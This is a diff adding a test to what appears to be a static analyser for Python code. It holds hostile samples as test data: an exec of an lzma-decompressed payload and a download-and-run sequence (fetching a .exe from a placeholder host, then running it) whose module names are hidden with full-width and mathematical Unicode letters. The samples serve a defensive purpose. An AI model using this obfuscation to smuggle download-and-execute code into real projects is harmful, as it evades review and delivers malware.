@@ -93,3 +93,12 @@ test('lzma (xz) and bz2 payloads are decompressed and analysed', async () => {
   const bad = await facts("import lzma\nexec(lzma.decompress(b'\\xfd7zXZ\\x00\\x00garbage'))\n");
   assert.equal(bad.commands.length, 0);
 });
+
+test('identifiers in mathematical or full-width letters are the names Python sees (NFKC)', async () => {
+  // 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀 / ｓｕｂｐｒｏｃｅｓｓ are `requests` / `subprocess` to the interpreter (PEP 3131).
+  const f = await facts(
+    "import requests, subprocess\n\u{1d5ff}\u{1d5f2}\u{1d666}\u{1d602}\u{1d65a}\u{1d600}\u{1d601}\u{1d600}.get('https://x.invalid/a.exe')\n\uff53\uff55\uff42\uff50\uff52\uff4f\uff43\uff45\uff53\uff53.call(['a.exe'])\n",
+  );
+  assert.ok(f.sinks.some((s) => s.line === 2), 'the request through the disguised module name is a sink');
+  assert.ok(f.commands.some((c) => c.line === 3 && c.via.startsWith('subprocess')), 'the disguised subprocess call is a command');
+});
